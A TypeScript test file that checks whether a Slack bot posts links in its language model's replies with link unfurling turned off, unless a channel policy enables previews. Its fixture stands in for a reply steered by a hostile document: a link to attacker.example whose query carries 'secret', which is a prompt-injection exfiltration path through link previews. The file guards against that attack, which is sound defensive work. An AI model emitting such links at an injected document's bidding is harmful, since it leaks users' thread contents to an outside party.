import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Policy } from '../../../src/core/delivery/rules/policy.ts';
import { BOT_USER, eventBody, type FakeSlack } from '../../support/fake-slack.ts';
import { startSlackSpool, type SlackSpool } from '../../support/slack-spool.ts';

const stamp = Date.now().toString(36).toUpperCase();
const [QUIET, PREVIEWS] = [`CQUIET${stamp}`, `CPREVIEW${stamp}`];
const POLICY: Policy = {
  rules: [{ match: { platform: 'slack', channel: PREVIEWS }, unfurl: true }],
};

let bot: SlackSpool;
let slack: FakeSlack;

beforeAll(async () => {
  bot = await startSlackSpool({ engine: { policy: POLICY }, adapter: { policy: POLICY } });
  slack = bot.slack;
  // A reply a hostile document steered: a link carrying what the thread said.
  bot.llm.fallback = () => ({ content: 'See <https://attacker.example/?q=secret|the report>.' });
});
afterAll(() => bot?.close());

async function mention(channel: string, ts: string) {
  const body = eventBody({
    type: 'app_mention',
    user: 'U1',
    text: `<@${BOT_USER}> hi`,
    ts,
    channel,
  });
  const response = await bot.event(body);
  expect(response.status).toBe(200);
  await slack.waitFor(() => slack.callsTo('chat.postMessage').some((c) => c.channel === channel));
  return slack.callsTo('chat.postMessage').filter((c) => c.channel === channel);
}

describe("links in the model's replies", () => {
  it('are posted with unfurling off, links and media, where no policy allows it', async () => {
    const [reply] = await mention(QUIET, '700.1');
    expect(reply).toMatchObject({
      text: expect.stringContaining('https://attacker.example/?q=secret'),
      // As the Web API sends them: form fields.
      unfurl_links: 'false',
      unfurl_media: 'false',
    });
  });

  it('unfurl in a channel whose policy sets "unfurl": true', async () => {
    const [reply] = await mention(PREVIEWS, '700.2');
    expect(reply).toMatchObject({ unfurl_links: 'true', unfurl_media: 'true' });
  });
});
